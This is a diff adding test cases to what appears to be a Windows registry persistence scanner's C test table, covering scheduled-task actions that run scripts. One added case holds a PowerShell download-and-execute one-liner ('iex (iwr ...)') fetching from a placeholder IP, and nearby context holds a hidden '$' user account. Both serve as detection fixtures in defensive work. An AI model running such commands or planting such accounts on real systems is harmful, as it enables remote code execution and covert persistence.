@@ -96,6 +96,33 @@ static const struct {
      "V\tRoot\\\\InventoryApplicationFile\\\\v.exe|1\tLowerCaseLongPath\t1\t"
      "c:\\\\program files\\\\veeam\\\\v.exe\n",
      NULL},
+    {"Windows' own task running its own script (Server Manager)",
+     "K\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A1}\t\n"
+     "V\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A1}"
+     "\tActions\t3\t"
+     "%systemroot%\\\\system32\\\\cscript.exe /B /nologo "
+     "%systemroot%\\\\system32\\\\calluxxprovider.vbs $(Arg0) $(Arg1) "
+     "$(Arg2)\n",
+     NULL},
+    {"a task running cscript on a script in ProgramData",
+     "K\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A2}\t\n"
+     "V\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A2}"
+     "\tActions\t3\t"
+     "%systemroot%\\\\system32\\\\cscript.exe /B C:\\\\ProgramData\\\\u.vbs\n",
+     "task-action"},
+    {"a task running cscript on a script of System32, downloaded",
+     "K\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A3}\t\n"
+     "V\tMicrosoft\\\\Windows "
+     "NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tasks\\\\{A3}"
+     "\tActions\t3\t"
+     "%windir%\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -c "
+     "iex (iwr http://198.51.100.9/a)\n",
+     "task-action"},
     {"a local account hidden from net user",
      "K\tSAM\\\\Domains\\\\Account\\\\Users\\\\Names\\\\support$\t"
      "2021-03-05T02:00:00Z\n",
